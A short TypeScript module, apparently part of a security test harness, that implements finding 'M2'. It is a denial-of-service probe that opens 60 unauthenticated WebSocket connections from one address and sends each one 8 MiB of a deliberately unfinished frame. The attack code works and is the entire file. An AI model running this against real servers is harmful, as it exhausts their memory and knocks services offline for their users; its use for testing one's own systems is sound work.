/** M2: sockets before `auth`, each with 8 MiB of a frame that never ends. */
import { type Attack, attackerAddress } from "./attack.ts"
import { emptyTally, keepOpen, upgradeUnauthenticated } from "./sockets.ts"

const sockets = 60
const frameBytes = 8_388_608
const text = 0x81
const masked64 = 0xff

/** All but the last kilobyte of a large masked text frame. */
const unfinished = (): Buffer => {
  const bytes = Buffer.alloc(frameBytes, 0x78)
  bytes[0] = text
  bytes[1] = masked64
  bytes.writeBigUInt64BE(BigInt(frameBytes + 1_024), 2)
  bytes.writeUInt32BE(0, 10)
  return bytes
}

/** Of one address. */
export const unfinishedFrames: Attack = {
  finding: "M2",
  asks: `${sockets} sockets of one address before auth, 8 MiB of one frame each`,
  strike: async (target) => {
    const [bytes, tally] = [unfinished(), emptyTally()]
    const from = (): string => attackerAddress(0)
    await keepOpen(target, target.tiny ? 4 : sockets, from, tally, (socket) =>
      upgradeUnauthenticated(socket, target.url, () =>
        socket.write(bytes, () => {
          tally.bytesSent += bytes.length
        })
      )
    )
    return { ...tally }
  }
}
